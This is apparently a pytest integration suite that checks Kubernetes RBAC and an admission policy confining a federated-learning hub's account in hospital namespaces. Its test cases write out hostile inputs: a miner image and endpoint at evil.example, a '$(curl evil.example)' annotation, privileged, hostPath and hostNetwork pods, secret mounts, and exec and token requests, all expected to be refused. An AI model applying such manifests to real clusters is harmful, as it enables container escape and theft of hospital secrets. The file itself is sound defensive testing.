"""What the hub's account can do in a hospital, and what it cannot: every refusal by a real API server, with its own words.

Two hospitals install chart fedhelp-silo with helm. The hub is the service account that their values name, by a real token; it
is never the administrator. A permitted Job is the one that the hub's own dispatcher makes.
"""

from __future__ import annotations

import copy
import json
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from fedhelp_core.config.dispatch import SiloEntry
from fedhelp_dispatch.job import job_of
from fedhelp_dispatch.request import WorkRequest
from tests.cluster.build import binary
from tests.cluster.control_plane import ControlPlane
from tests.cluster.releases import install

pytestmark = [pytest.mark.cluster, pytest.mark.slow]

STORE, ENDPOINT = "s3://federation/melanoma", "http://minio.storage:9000"
FORBIDDEN = "is forbidden"
Job = dict[str, Any]


@dataclass(frozen=True)
class Hub:
    """The hub's account, and a hospital that lets it in."""

    cluster: ControlPlane
    kubeconfig: str
    hospital: str
    other_hospital: str

    def kubectl(self, *arguments: str, body: object = None) -> str:
        """What the API server answers the hub: its output, or its refusal."""
        done = subprocess.run(
            [binary("kubectl"), f"--kubeconfig={self.kubeconfig}", *arguments], input=None if body is None else json.dumps(body),
            capture_output=True, text=True, timeout=60)
        return done.stdout if done.returncode == 0 else done.stderr

    def create(self, body: object) -> str:
        """Ask for an object, for real but with nothing left behind: admission and RBAC judge a server-side dry run alike."""
        return self.kubectl("create", "--dry-run=server", "--output=name", "--filename=-", body=body)

    def template(self) -> Job:
        """The hospital's template, as the hub reads it."""
        found: Job = json.loads(self.kubectl("get", "cronjob", "fedhelp-worker", "-n", self.hospital, "-o", "json"))
        return found

    def job(self, **changes: Any) -> Job:
        """The Job that the hub's dispatcher makes."""
        entry = SiloEntry.model_validate({"name": changes.pop("silo", "charite"), "dispatch": {"kind": "kubernetes"}})
        request = {"run_id": "run-1", "entry": entry, "action": "train", "store_url": STORE, "endpoint_url": ENDPOINT, "only_round": 3,
                   "deadline_s": 3600, "lease_s": 600.0, **changes}
        return job_of(self.template(), WorkRequest(**request), namespace=self.hospital)

    def wait_for_the_policy(self) -> None:
        """A new policy takes effect about a second after it is made."""
        wrong = self.job()
        wrong["metadata"]["labels"]["policy"] = "not-yet"
        deadline = time.monotonic() + 60
        while "does not allow these labels: policy" not in self.create(wrong):
            assert time.monotonic() < deadline, self.create(wrong)
            time.sleep(0.2)


@pytest.fixture(scope="module")
def hub(control_plane: ControlPlane) -> Iterator[Hub]:
    home = control_plane.new_namespace("hub")
    control_plane.request("POST", f"/api/v1/namespaces/{home}/serviceaccounts", {"metadata": {"name": "fedhelp-runs"}})
    hospitals = [control_plane.new_namespace("hospital", {"pod-security.kubernetes.io/enforce": "restricted"}) for _ in range(2)]
    account = {"hub": {"subjects": [{"kind": "ServiceAccount", "name": "fedhelp-runs", "namespace": home}]}}
    install(control_plane, "fedhelp-silo", hospitals[0], "shared-cluster", account)
    install(control_plane, "fedhelp-silo", hospitals[1], "shared-cluster", {"hub": {"subjects": [{"kind": "User", "name": "another-hub"}]}})
    kubeconfig = control_plane.kubeconfig(f"system:serviceaccount:{home}:fedhelp-runs")
    found = Hub(control_plane, str(kubeconfig), *hospitals)
    found.wait_for_the_policy()
    yield found
    for name in (home, *hospitals):
        control_plane.request("DELETE", f"/api/v1/namespaces/{name}")


def pod_of(job: Job) -> dict[str, Any]:
    pod: dict[str, Any] = job["spec"]["template"]["spec"]
    return pod


def container_of(job: Job) -> dict[str, Any]:
    container: dict[str, Any] = pod_of(job)["containers"][0]
    return container


# ---- what it can do


@pytest.mark.parametrize("action", ["check", "train", "evaluate"])
def test_the_jobs_of_the_hubs_own_dispatcher_are_taken(action: str, hub: Hub) -> None:
    assert hub.create(hub.job(action=action)).startswith("job.batch/")


def test_a_job_for_all_rounds_is_taken(hub: Hub) -> None:
    assert hub.create(hub.job(only_round=None, lease_s=0.5)).startswith("job.batch/")


def test_the_hub_starts_watches_and_removes_its_own_work(hub: Hub) -> None:
    job = hub.job(run_id="lifecycle")
    name = job["metadata"]["name"]

    assert "created" in hub.kubectl("create", "-f", "-", body=job)
    assert name in hub.kubectl("get", "jobs,pods", "-n", hub.hospital, "-o", "name")
    assert "Error" not in hub.kubectl("get", "events", "-n", hub.hospital)
    assert "deleted" in hub.kubectl("delete", "job", name, "-n", hub.hospital)


def test_a_job_may_go_with_its_template(hub: Hub) -> None:
    job = hub.job()
    template = hub.template()["metadata"]
    job["metadata"]["ownerReferences"] = [{"apiVersion": "batch/v1", "kind": "CronJob", "name": template["name"], "uid": template["uid"]}]

    assert hub.create(job).startswith("job.batch/")


# ---- Jobs of another shape: one change each, and what the API server says to it

Change = Callable[[Job], object]
OTHER_SHAPES: dict[str, tuple[Change, str]] = {
    "another image": (
        lambda job: container_of(job).update(image="evil.example/miner:1"), "fixes the container's image"),
    "another image pull policy": (
        lambda job: container_of(job).update(imagePullPolicy="Always"), "fixes the container's imagePullPolicy"),
    "another command": (
        lambda job: container_of(job).update(command=["sh", "-c"]), "fixes the container's command"),
    "an environment variable more": (
        lambda job: container_of(job)["env"].append({"name": "AWS_ENDPOINT_URL", "value": "http://evil.example"}), "fixes the container's env"),
    "another Secret as environment": (
        lambda job: container_of(job).update(envFrom=[{"secretRef": {"name": "hospital-database"}}]), "fixes the container's envFrom"),
    "a lifecycle hook": (
        lambda job: container_of(job).update(lifecycle={"postStart": {"exec": {"command": ["sh"]}}}), "fixes the container's lifecycle"),
    "a working directory": (
        lambda job: container_of(job).update(workingDir="/data"), "fixes the container's workingDir"),
    "more GPUs": (
        lambda job: container_of(job)["resources"]["limits"].update({"nvidia.com/gpu": "8"}) or
        container_of(job)["resources"]["requests"].update({"nvidia.com/gpu": "8"}), "fixes the container's resources"),
    "more memory": (
        lambda job: container_of(job)["resources"]["limits"].update(memory="1Ti"), "fixes the container's resources"),
    "a privileged container": (
        lambda job: container_of(job)["securityContext"].update(privileged=True, allowPrivilegeEscalation=True),
        "fixes the container's securityContext"),
    "a writable root": (
        lambda job: container_of(job)["securityContext"].update(readOnlyRootFilesystem=False), "fixes the container's securityContext"),
    "data mounted writable": (
        lambda job: container_of(job)["volumeMounts"][0].update(readOnly=False), "fixes the container's volumeMounts"),
    "a Secret as a volume": (
        lambda job: pod_of(job)["volumes"].append({"name": "x", "secret": {"secretName": "hospital-database"}}), "fixes spec.template.spec.volumes"),
    "another claim of the hospital": (
        lambda job: pod_of(job)["volumes"][0].update(persistentVolumeClaim={"claimName": "radiology"}), "fixes spec.template.spec.volumes"),
    "a folder of the node": (
        lambda job: pod_of(job)["volumes"].append({"name": "x", "hostPath": {"path": "/"}}), "fixes spec.template.spec.volumes"),
    "the node's network": (
        lambda job: pod_of(job).update(hostNetwork=True), "fixes spec.template.spec.hostNetwork"),
    "the node's processes": (
        lambda job: pod_of(job).update(hostPID=True), "fixes spec.template.spec.hostPID"),
    "another service account": (
        lambda job: pod_of(job).update(serviceAccountName="default", serviceAccount="default"), "fixes spec.template.spec.service"),
    "a Kubernetes token in the pod": (
        lambda job: pod_of(job).update(automountServiceAccountToken=True), "fixes spec.template.spec.automountServiceAccountToken"),
    "root": (
        lambda job: pod_of(job)["securityContext"].update(runAsUser=0, runAsNonRoot=False), "fixes spec.template.spec.securityContext"),
    "another node": (
        lambda job: pod_of(job).update(nodeName="the-databases-node"), "fixes spec.template.spec.nodeName"),
    "a toleration": (
        lambda job: pod_of(job).update(tolerations=[{"operator": "Exists"}]), "fixes spec.template.spec.tolerations"),
    "another name server": (
        lambda job: pod_of(job).update(dnsPolicy="None", dnsConfig={"nameservers": ["203.0.113.66"]}), "fixes spec.template.spec.dns"),
    "an init container": (
        lambda job: pod_of(job).update(initContainers=[{"name": "first", "image": "evil.example/miner:1"}]),
        "fixes spec.template.spec.initContainers"),
    "a sidecar": (
        lambda job: pod_of(job)["containers"].append({**copy.deepcopy(container_of(job)), "name": "second"}), "has one container, not 2"),
    "another restart policy": (
        lambda job: pod_of(job).update(restartPolicy="OnFailure") or job["spec"].pop("podFailurePolicy"), "fixes spec.podFailurePolicy"),
    "many pods at once": (
        lambda job: job["spec"].update(parallelism=50), "fixes spec.parallelism"),
    "many pods one after another": (
        lambda job: job["spec"].update(completions=50), "fixes spec.completions"),
    "pods that are somebody else's": (
        lambda job: job["spec"].update(manualSelector=True, selector={"matchLabels": {"app": "database"}}) or
        job["spec"]["template"]["metadata"]["labels"].update(app="database"), "does not allow these labels of spec.template: app"),
    "endless retries": (
        lambda job: job["spec"].update(backoffLimit=10000), "fixes spec.backoffLimit"),
    "another controller": (
        lambda job: job["spec"].update(managedBy="evil.example/controller"), "fixes spec.managedBy"),
    "a longer deadline": (
        lambda job: job["spec"].update(activeDeadlineSeconds=86401), "spec.activeDeadlineSeconds must be set, to at most 86400"),
    "no deadline": (
        lambda job: job["spec"].pop("activeDeadlineSeconds"), "spec.activeDeadlineSeconds must be set, to at most 86400"),
    "a Job that is kept for ever": (
        lambda job: job["spec"].pop("ttlSecondsAfterFinished"), "fixes spec.ttlSecondsAfterFinished"),
    "another silo's label": (
        lambda job: job["metadata"]["labels"].update({"fedhelp.io/silo": "another"}), "does not allow these labels: fedhelp.io/silo"),
    "a queue that the hospital did not choose": (
        lambda job: job["metadata"]["labels"].update({"kueue.x-k8s.io/queue-name": "urgent"}),
        "does not allow these labels: kueue.x-k8s.io/queue-name"),
    "pods that other policies select": (
        lambda job: job["spec"]["template"]["metadata"]["labels"].update(app="database"), "does not allow these labels of spec.template: app"),
    "pods without the label that its network policy selects": (
        lambda job: job["spec"]["template"]["metadata"]["labels"].pop("app.kubernetes.io/name"), "does not allow these labels of spec.template"),
    "an annotation that a webhook may read": (
        lambda job: job["spec"]["template"]["metadata"].update(annotations={"vault.hashicorp.com/agent-inject": "true"}),
        "does not set spec.template.metadata.annotations"),
    "pods that cannot be deleted": (
        lambda job: job["spec"]["template"]["metadata"].update(finalizers=["evil.example/stay"]), "does not set spec.template.metadata.finalizers"),
    "an annotation of 200 kB": (
        lambda job: job["metadata"]["annotations"].update({"fedhelp.io/request-sha256": "0" * 200_000}), "must be a sha256 in hexadecimal"),
    "an annotation that is no hash": (
        lambda job: job["metadata"]["annotations"].update({"fedhelp.io/request-sha256": "$(curl evil.example)"}), "must be a sha256 in hexadecimal"),
    "an annotation beside ours": (
        lambda job: job["metadata"]["annotations"].update({"evil.example/x": "y"}), "does not allow these annotations: evil.example/x"),
    "a crowd of owners": (
        lambda job: job["metadata"].update(ownerReferences=[
            {"apiVersion": "work.open-cluster-management.io/v1", "kind": "AppliedManifestWork", "name": f"x{n}", "uid": str(n)} for n in range(50)]),
        "no owner but template"),
    "a Job that cannot be deleted": (
        lambda job: job["metadata"].update(finalizers=["evil.example/stay"]), "no finalizers"),
    "a Job that belongs to something else": (
        lambda job: job["metadata"].update(ownerReferences=[{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "1"}]),
        "no owner but template"),
}


@pytest.mark.parametrize("shape", OTHER_SHAPES)
def test_a_job_of_another_shape_is_refused_with_the_name_of_the_field(shape: str, hub: Hub) -> None:
    change, said = OTHER_SHAPES[shape]
    job = hub.job()
    change(job)

    answer = hub.create(job)

    assert "ValidatingAdmissionPolicy" in answer, answer
    assert said in answer, answer


GOOD = ["train", "--run", "r", "--store", STORE, "--endpoint-url", ENDPOINT]
PAIRS = "the worker takes an action and then pairs"
OTHER_ARGUMENTS: dict[str, tuple[list[str], str]] = {
    "no argument": ([], "first argument must be check, train or evaluate"),
    "another program": (["shell", *GOOD[1:]], "first argument must be check, train or evaluate"),
    "another silo.yaml": ([*GOOD, "--silo-config", "/data/mine.yaml"], PAIRS),
    "an abbreviated flag": (["train", "--run", "r", "--sto", STORE, "--endpoint-url", ENDPOINT], PAIRS),
    "a flag and its value in one": (["train", "--run", "r", f"--store={STORE}", "--endpoint-url", ENDPOINT], PAIRS),
    "another store": (["train", "--run", "r", "--store", "s3://elsewhere/x", "--endpoint-url", ENDPOINT], f"exchanges with store {STORE}"),
    "a second store": ([*GOOD, "--store", "s3://elsewhere/x"], f"exchanges with store {STORE}"),
    "another endpoint": ([*GOOD[:-1], "http://evil.example"], f"{STORE} at {ENDPOINT} alone"),
    "no endpoint, so that AWS is meant": (GOOD[:-2], PAIRS),
    "a folder as store": (["train", "--run", "r", "--store", "/state/out", "--endpoint-url", ENDPOINT], f"exchanges with store {STORE}"),
    "a path as run": (["train", "--run", "../../other", *GOOD[3:]], "run ids and numbers must be plain"),
    **{f"{flag} {value}": ([*GOOD, flag, value], "run ids and numbers must be plain") for flag, value in (
        ("--lease", "1e999"), ("--lease", "1e+05"), ("--lease", "inf"), ("--lease", "nan"), ("--lease", "-1"), ("--lease", "999999"),
        ("--lease", "600."), ("--round", "0"), ("--round", "1.5"), ("--round", "1e3"), ("--round", "9999999"))},
}


@pytest.mark.parametrize("case", OTHER_ARGUMENTS)
def test_arguments_that_are_not_the_workers_own_are_refused(case: str, hub: Hub) -> None:
    arguments, said = OTHER_ARGUMENTS[case]
    job = hub.job()
    container_of(job)["args"] = arguments

    answer = hub.create(job)

    assert "ValidatingAdmissionPolicy" in answer, answer
    assert said in answer, answer


# ---- what RBAC does not give it


def test_a_bare_pod_is_refused(hub: Hub) -> None:
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "bare", "namespace": hub.hospital}, "spec": pod_of(hub.job())}

    assert "cannot create resource \"pods\"" in hub.create(pod)


def test_a_cron_job_of_its_own_is_refused(hub: Hub) -> None:
    own = {**hub.template(), "metadata": {"name": "own", "namespace": hub.hospital}}

    assert "cannot create resource \"cronjobs\"" in hub.create(own)


@pytest.mark.parametrize(("verb", "arguments"), [
    ("patch", ["patch", "cronjob", "fedhelp-worker", "-p", '{"spec":{"suspend":false}}']),
    ("delete", ["delete", "cronjob", "fedhelp-worker"]),
    ("list", ["get", "cronjobs"]),
])
def test_the_template_can_be_read_and_nothing_else(verb: str, arguments: list[str], hub: Hub) -> None:
    assert f"cannot {verb} resource \"cronjobs\"" in hub.kubectl(*arguments, "-n", hub.hospital)


def test_a_job_cannot_be_changed_once_it_is_there(hub: Hub) -> None:
    job = hub.job(run_id="changed")
    hub.kubectl("create", "-f", "-", body=job)
    name = job["metadata"]["name"]

    assert "cannot patch resource \"jobs\"" in hub.kubectl("patch", "job", name, "-n", hub.hospital, "-p", '{"spec":{"suspend":true}}')
    hub.kubectl("delete", "job", name, "-n", hub.hospital)


@pytest.mark.parametrize("resource", ["secrets", "configmaps", "persistentvolumeclaims", "serviceaccounts", "roles", "networkpolicies"])
def test_the_hospitals_other_objects_cannot_be_read(resource: str, hub: Hub) -> None:
    assert f"cannot list resource \"{resource}\"" in hub.kubectl("get", resource, "-n", hub.hospital)


def test_a_secret_cannot_be_read_by_name_either(hub: Hub) -> None:
    assert "cannot get resource \"secrets\"" in hub.kubectl("get", "secret", "fedhelp-store", "-n", hub.hospital)


@pytest.mark.parametrize("subresource", ["exec", "attach", "portforward", "ephemeralcontainers", "eviction"])
def test_nothing_gets_into_a_running_pod(subresource: str, hub: Hub) -> None:
    assert hub.kubectl("auth", "can-i", "create", f"pods/{subresource}", "-n", hub.hospital, "-q").strip() == ""
    answer = hub.kubectl("create", "--raw", f"/api/v1/namespaces/{hub.hospital}/pods/any/{subresource}", "-f", "-", body={})
    assert f"cannot create resource \"pods/{subresource}\"" in answer, answer


def test_a_token_of_the_workers_account_cannot_be_made(hub: Hub) -> None:
    assert "cannot create resource \"serviceaccounts/token\"" in hub.kubectl("create", "token", "fedhelp-worker", "-n", hub.hospital)


def test_the_fence_cannot_be_taken_down(hub: Hub) -> None:
    policy = f"fedhelp-worker.{hub.hospital}"

    assert "cannot delete resource" in hub.kubectl("delete", "validatingadmissionpolicybinding", policy)
    assert "cannot delete resource \"networkpolicies\"" in hub.kubectl("delete", "networkpolicy", "fedhelp-default-deny", "-n", hub.hospital)
    assert "cannot delete resource \"resourcequotas\"" in hub.kubectl("delete", "resourcequota", "fedhelp-worker", "-n", hub.hospital)


def test_a_hospital_that_did_not_let_this_hub_in_is_out_of_reach(hub: Hub) -> None:
    job = hub.job()
    job["metadata"]["namespace"] = hub.other_hospital

    assert FORBIDDEN in hub.create(job)
    assert FORBIDDEN in hub.kubectl("get", "cronjob", "fedhelp-worker", "-n", hub.other_hospital)
    assert FORBIDDEN in hub.kubectl("get", "pods", "-n", hub.other_hospital)


def test_the_hub_cannot_let_itself_in_elsewhere(hub: Hub) -> None:
    binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": "more", "namespace": hub.hospital},
               "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"}, "subjects": []}

    assert "cannot create resource \"rolebindings\"" in hub.create(binding)


# ---- the administrator


def test_only_who_may_change_the_template_may_run_something_else(hub: Hub) -> None:
    job = hub.job()
    container_of(job)["command"] = ["python", "-m", "fedhelp_dispatch.doctor"]

    assert "fixes the container's command" in hub.create(job)
    assert hub.cluster.kubectl("create", "--dry-run=server", "-o", "name", "-f", "-", input=json.dumps(job)).startswith("job.batch/")


def test_the_policy_has_no_expression_that_the_api_server_warns_about(hub: Hub) -> None:
    policy = json.loads(hub.cluster.kubectl("get", "validatingadmissionpolicy", f"fedhelp-worker.{hub.hospital}", "-o", "json"))

    assert policy.get("status", {}).get("typeChecking", {}).get("expressionWarnings", []) == []
